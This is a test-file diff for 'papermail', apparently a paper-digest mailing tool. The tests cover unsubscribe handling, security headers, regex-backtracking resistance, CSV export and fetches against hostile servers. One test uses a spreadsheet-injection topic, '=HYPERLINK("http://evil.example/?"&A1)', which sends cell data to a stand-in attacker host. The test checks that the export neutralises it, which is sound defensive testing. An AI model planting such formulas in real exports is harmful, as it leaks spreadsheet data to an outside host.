@@ -1,9 +1,17 @@
+import Database from "better-sqlite3";
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
+import { simpleParser } from "mailparser";
 import { describe, expect, it } from "vitest";
-import { ROOT } from "./helpers.js";
-import { project, servers } from "./project.js";
+import { resolveSecret } from "../src/store/settings.js";
+import { addSubscriber } from "../src/store/subscribers.js";
+import { findUnsubscribable } from "../src/subscribers/subscribe.js";
+import { journalDir } from "../src/subscribers/unsubscribe-journal.js";
+import { preferencesToken, unsubscribeToken } from "../src/util/tokens.js";
+import { ROOT, runCli, SAMPLE_FILES, tempDir } from "./helpers.js";
+import { context, project, servers } from "./project.js";
+import { startSite } from "./site.js";
 
 const RECORDED = join(ROOT, "tests", "fixtures", "daily_papers", "2024-12-12.json");
 const recorded = () => JSON.parse(readFileSync(RECORDED, "utf8")) as Array<{ paper: Record<string, unknown> & { title: string; summary: string } }>;
@@ -91,4 +99,245 @@ describe("broken daily_papers JSON never stops a folder", () => {
     const after = JSON.parse((await p.cli(["papers", "--json"])).stdout) as Array<{ id: number; url: string; title: string }>;
     expect(after).toEqual(before);
   });
+});
+
+describe("web and identities", () => {
+  it("never gives a forgotten reader's id to the next subscriber", async () => {
+    const p = project();
+    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
+    await p.cli(["subscribers", "add", "bob@example.org", "--confirmed"]);
+    const ids = () => new Map((p.db().prepare("SELECT email, id FROM subscribers").all() as Array<{ email: string; id: number }>).map((r) => [r.email, r.id]));
+    const bob = ids().get("bob@example.org")!;
+    expect((await p.cli(["subscribers", "remove", "bob@example.org", "--forget"])).code).toBe(0);
+    await p.cli(["subscribers", "add", "carol@example.org", "--confirmed"]);
+    expect(ids().get("carol@example.org")).toBeGreaterThan(bob);
+  });
+
+  it("records a one-click unsubscribe while another process holds the write lock, and applies it once the lock is free", async () => {
+    const site = await startSite();
+    addSubscriber(site.ctx.db, "ada@example.org", "active", new Date().toISOString(), "cli");
+    const id = (site.ctx.db.prepare("SELECT id FROM subscribers WHERE email = 'ada@example.org'").get() as { id: number }).id;
+    const token = unsubscribeToken(resolveSecret(site.ctx.db, site.ctx.config.secret), 1, id);
+    // A long ingest in another process: it holds the write lock for longer than the answer may wait.
+    const other = new Database(site.ctx.config.dbPath);
+    other.exec("BEGIN IMMEDIATE");
+    const r = await site.post(`/unsubscribe/${token}`, "List-Unsubscribe=One-Click");
+    expect(r.status).toBe(200);
+    expect(await r.text()).toBe("Unsubscribed.\n");
+    expect(readdirSync(journalDir(site.ctx.config.dbPath)).filter((f) => f.endsWith(".json"))).toHaveLength(1);
+    other.exec("COMMIT");
+    other.close();
+    const status = () => (site.ctx.db.prepare("SELECT status FROM subscribers WHERE id = ?").get(id) as { status: string }).status;
+    for (let i = 0; i < 100 && status() !== "unsubscribed"; i++) await new Promise((res) => setTimeout(res, 50));
+    expect(status()).toBe("unsubscribed");
+    expect(readdirSync(journalDir(site.ctx.config.dbPath)).filter((f) => f.endsWith(".json"))).toHaveLength(0);
+    expect(site.logs.some((l) => /applied 1 unsubscribe that arrived while the database was busy/.test(l))).toBe(true);
+  });
+
+  it("sends a returning reader a working confirmation at once", async () => {
+    const site = await startSite();
+    await site.post("/subscribe", { email: "ada@example.org" });
+    expect(await site.mailCount(1)).toBe(1);
+    const confirmLink = async (n: number) => /\/confirm\/[A-Za-z0-9_-]+/.exec((await site.smtp.parse(site.smtp.received[n]!)).text ?? "")![0];
+    expect((await site.post(await confirmLink(0), {})).status).toBe(200);
+    const id = (site.ctx.db.prepare("SELECT id FROM subscribers WHERE email = 'ada@example.org'").get() as { id: number }).id;
+    const token = unsubscribeToken(resolveSecret(site.ctx.db, site.ctx.config.secret), 1, id);
+    expect((await site.post(`/unsubscribe/${token}`, "List-Unsubscribe=One-Click")).status).toBe(200);
+    // Back within the hour: a new confirmation goes out now, and its link works.
+    await site.post("/subscribe", { email: "ada@example.org" });
+    expect(await site.mailCount(2)).toBe(2);
+    const again = await site.post(await confirmLink(1), {});
+    expect(await again.text()).toContain("You are subscribed");
+    // A flood of requests for a pending address still gets one email a day.
+    await site.post("/subscribe", { email: "bob@example.org" });
+    await site.post("/subscribe", { email: "bob@example.org" });
+    await site.mailCount(4);
+    expect(site.smtp.received).toHaveLength(3);
+    expect(site.logs.some((l) => l.includes("confirmation email not sent: this address was sent one less than 24 hours ago"))).toBe(true);
+  });
+
+  it("keeps links mailed under the generated secret working once PAPERMAIL_SECRET is set", async () => {
+    const p = project();
+    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
+    await p.cli(["ingest", SAMPLE_FILES[0]!]);
+    await p.cli(["send-digest"]);
+    const eml = readFileSync(join(p.cwd, "var", "outbox", "1", "0000001-ada@example.org.eml"), "utf8");
+    const token = /\/unsubscribe\/([A-Za-z0-9._-]+)>/.exec(eml)![1]!;
+    const ctx = context(p.cwd, { ...p.env, PAPERMAIL_SECRET: "a-new-secret-set-by-the-operator-0123456789" });
+    expect(findUnsubscribable(ctx, token)).toBeDefined();
+  });
+
+  it("answers private pages with no-store and the security headers; public pages stay cacheable", async () => {
+    const site = await startSite();
+    addSubscriber(site.ctx.db, "ada@example.org", "active", new Date().toISOString(), "cli");
+    const id = (site.ctx.db.prepare("SELECT id FROM subscribers").get() as { id: number }).id;
+    const page = await fetch(`${site.base}/preferences/${preferencesToken(resolveSecret(site.ctx.db, site.ctx.config.secret), id)}`);
+    expect(page.status).toBe(200);
+    expect(await page.text()).toContain("ada@example.org");
+    expect(page.headers.get("cache-control")).toBe("no-store");
+    for (const h of ["content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy"]) expect(page.headers.get(h)).toBeTruthy();
+    expect((await fetch(`${site.base}/feed.xml`)).headers.get("cache-control")).toMatch(/^public/);
+  });
+
+  it("says in full what is wrong with a feed filter", async () => {
+    const site = await startSite();
+    const r = await fetch(`${site.base}/feed.json?min_upvotes=abc`);
+    expect(r.status).toBe(400);
+    expect(await r.text()).toBe("min_upvotes: must be a whole number from 0 to 100000\n");
+    const t = await fetch(`${site.base}/feed.json?topics=${encodeURIComponent("---, speech")}`);
+    expect(await t.text()).toMatch(/^topics: a topic needs a letter or digit/);
+  });
+
+  it("matches any topic in time linear in the text: a hostile topic over a large abstract takes milliseconds", async () => {
+    const { topicMatcher, parseTopics } = await import("../src/digest/topics.js");
+    // Shapes that made backtracking patterns: many short words, hyphens, repeats, a near miss at the end.
+    // "a - - ... - z" compiled to 28 runs of [\s-]+ around literal hyphens: 40 characters of " -" took minutes.
+    const hostile = parseTopics(
+      [
+        Array.from({ length: 30 }, () => "a").join("-").slice(0, 59),
+        `a ${Array.from({ length: 28 }, () => "-").join(" ")} z`,
+        "a a a a a a a a a a a a a a a a a a a a a a a a a a a a a b",
+        "x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- y",
+      ].join(","),
+    );
+    const abstract = `${"a-a a-".repeat(200_000)}a ${" -".repeat(100_000)} ${"x- ".repeat(100_000)}`;
+    const started = performance.now();
+    const matched = topicMatcher(hostile)({ title: "t", abstract });
+    const ms = performance.now() - started;
+    expect(matched).toEqual([hostile[0]]);
+    expect(ms).toBeLessThan(1000);
+  });
+});
+
+describe("what papermail writes for others to open", () => {
+  it("neutralises spreadsheet formulas in the CSV export, and the import reads them back as typed", async () => {
+    const p = project();
+    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed", "--topics", '=HYPERLINK("http://evil.example/?"&A1), +speech, @vision']);
+    const csv = (await p.cli(["subscribers", "export"])).stdout;
+    const row = csv.split("\n")[1]!;
+    expect(row).toContain(`"'=hyperlink(""http://evil.example/?""&a1), +speech, @vision"`);
+    for (const cell of row.split(",")) expect(cell).not.toMatch(/^[=+\-@]/);
+    const q = project();
+    await q.cli(["subscribers", "import", "-", "--confirmed"], csv);
+    const topics = JSON.parse((q.db().prepare("SELECT topics FROM subscribers").get() as { topics: string }).topics);
+    expect(topics).toEqual(['=hyperlink("http://evil.example/?"&a1)', "+speech", "@vision"]);
+  });
+
+  it("loads nothing from another server in an email: every remote URL is a link", async () => {
+    const p = project();
+    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
+    await p.cli(["ingest", SAMPLE_FILES[1]!]);
+    await p.cli(["send-digest"]);
+    const mail = await simpleParser(readFileSync(join(p.cwd, "var", "outbox", "1", "0000001-ada@example.org.eml")));
+    const html = String(mail.html);
+    expect(html).not.toMatch(/fonts\.googleapis|@import|<link\b/i);
+    const remote = [...html.matchAll(/(\w[\w-]*)\s*=\s*"(https?:[^"]*)"|url\(\s*['"]?(https?:[^)'"]*)/gi)];
+    expect(remote.length).toBeGreaterThan(10);
+    // A namespace name is never loaded; anything else remote must be a link.
+    for (const m of remote.filter((x) => !x[1]?.toLowerCase().startsWith("xmlns"))) expect(m[1]?.toLowerCase()).toBe("href");
+  });
+
+  it("suggests the setting a typo meant, transpositions included", async () => {
+    const r = await runCli(["status"], { cwd: tempDir(), env: { PAPERMAIL_PROT: "8080" } });
+    expect(r.stderr).toMatch(/PAPERMAIL_PROT is not a papermail setting and is ignored \(did you mean PAPERMAIL_PORT\?\)/);
+  });
+});
+
+describe("fetch against hostile or absent servers", () => {
+  /** A local API answering every request with `handler`. */
+  async function api(handler: Parameters<typeof createServer>[1]) {
+    const server = createServer(handler);
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    servers.push({ close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))) });
+    return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
+  }
+  const base = () => ({ dumpsDir: join(tempDir(), "dumps"), userAgent: "papermail/test", backoffMs: 10, attempts: 2 });
+
+  it("refuses an answer over the size cap as it streams in, announced or not, and writes nothing", async () => {
+    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
+    // 3 MB of a list, sent without a Content-Length, against a 1 MB cap.
+    const huge = await api((_req, res) => {
+      res.writeHead(200, { "Content-Type": "application/json" });
+      res.write("[");
+      for (let i = 0; i < 3000; i++) res.write(`${i ? "," : ""}"${"x".repeat(1024)}"`);
+      res.end("]");
+    });
+    const o = base();
+    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${huge}/api/daily_papers`, maxBytes: 1024 * 1024 })).rejects.toThrow(
+      /the answer is larger than 1 MB \(PAPERMAIL_FETCH_MAX_MB\)/,
+    );
+    const announced = await api((_req, res) => res.writeHead(200, { "Content-Length": String(500 * 1024 * 1024) }).flushHeaders());
+    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${announced}/api`, maxBytes: 1024 * 1024 })).rejects.toThrow(/larger than 1 MB/);
+    expect(() => readdirSync(o.dumpsDir)).toThrow();
+  });
+
+  it("follows redirects within the API's origin only", async () => {
+    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
+    const elsewhere = await api((_req, res) => res.writeHead(200, { "Content-Type": "application/json" }).end(readFileSync(RECORDED)));
+    const origin = await api((req, res) => {
+      if (req.url!.startsWith("/old")) return res.writeHead(301, { Location: req.url!.replace("/old", "/api") }).end();
+      if (req.url!.startsWith("/away")) return res.writeHead(302, { Location: `${elsewhere}/api/daily_papers` }).end();
+      res.writeHead(200, { "Content-Type": "application/json" }).end(readFileSync(RECORDED));
+    });
+    const o = base();
+    expect((await fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${origin}/old/daily_papers` })).entries).toBe(5);
+    await expect(fetchDailyPapers("2024-12-13", new Date(), { ...o, apiUrl: `${origin}/away/daily_papers` })).rejects.toThrow(
+      new RegExp(`redirected to ${elsewhere}/api/daily_papers, another server; papermail follows redirects only within ${origin}`),
+    );
+    expect(readdirSync(o.dumpsDir)).toHaveLength(1);
+  });
+
+  it("says why an offline fetch failed: DNS, a refused connection, TLS", async () => {
+    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
+    const o = base();
+    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: "http://no-such-host.invalid/api" })).rejects.toThrow(/cannot resolve no-such-host\.invalid \(DNS: E[A-Z_]+\)/);
+    const closed = await api(() => undefined);
+    const port = new URL(closed).port;
+    await servers.pop()!.close();
+    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `http://127.0.0.1:${port}/api` })).rejects.toThrow(/127\.0\.0\.1:\d+ refused the connection/);
+    // A plain HTTP server spoken to over https:// fails its TLS handshake.
+    const plain = await api((_req, res) => res.end("[]"));
+    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: plain.replace("http:", "https:") })).rejects.toThrow(/TLS with 127\.0\.0\.1:\d+ failed/);
+  });
+
+  it("a fetch held by a trickling server never holds up ingest in the scheduler", async () => {
+    const { createScheduler } = await import("../src/scheduler/scheduler.js");
+    let trickle: NodeJS.Timeout | undefined;
+    const slow = await api((_req, res) => {
+      res.writeHead(200, { "Content-Type": "application/json" });
+      res.write("[");
+      trickle = setInterval(() => res.write(" "), 100);
+      res.on("close", () => clearInterval(trickle));
+    });
+    const p = project();
+    const ctx = context(p.cwd, { ...p.env, PAPERMAIL_HF_API_URL: `${slow}/api`, PAPERMAIL_DUMPS_DIR: join(ROOT, "samples") });
+    const lines: string[] = [];
+    const scheduler = createScheduler(ctx, (l) => lines.push(l));
+    const fetching = scheduler.run("fetch");
+    const first = await Promise.race([scheduler.run("ingest").then(() => "ingest"), fetching.then(() => "fetch")]);
+    expect(first).toBe("ingest");
+    expect(lines.some((l) => /^ingest: 4 file\(s\), 4 ingested/.test(l))).toBe(true);
+    await scheduler.stop();
+    clearInterval(trickle);
+  });
+
+  it("routes node-cron's own warnings through the log, without colour codes", async () => {
+    const { createScheduler } = await import("../src/scheduler/scheduler.js");
+    const p = project();
+    // Every second: a blocked event loop makes node-cron miss a run and warn.
+    const ctx = context(p.cwd, { ...p.env, PAPERMAIL_INGEST_CRON: "* * * * * *", PAPERMAIL_DUMPS_DIR: join(p.cwd, "none") });
+    const lines: string[] = [];
+    const scheduler = createScheduler(ctx, (l) => lines.push(l));
+    try {
+      scheduler.start();
+      await new Promise((r) => setTimeout(r, 1100));
+      const until = Date.now() + 2500;
+      while (Date.now() < until); // block
+      await new Promise((r) => setTimeout(r, 1500));
+    } finally {
+      await scheduler.stop();
+    }
+    expect(lines.some((l) => /^scheduler: missed execution/.test(l))).toBe(true);
+    expect(lines.join("\n")).not.toContain("\x1b");
+  }, 20_000);
 });
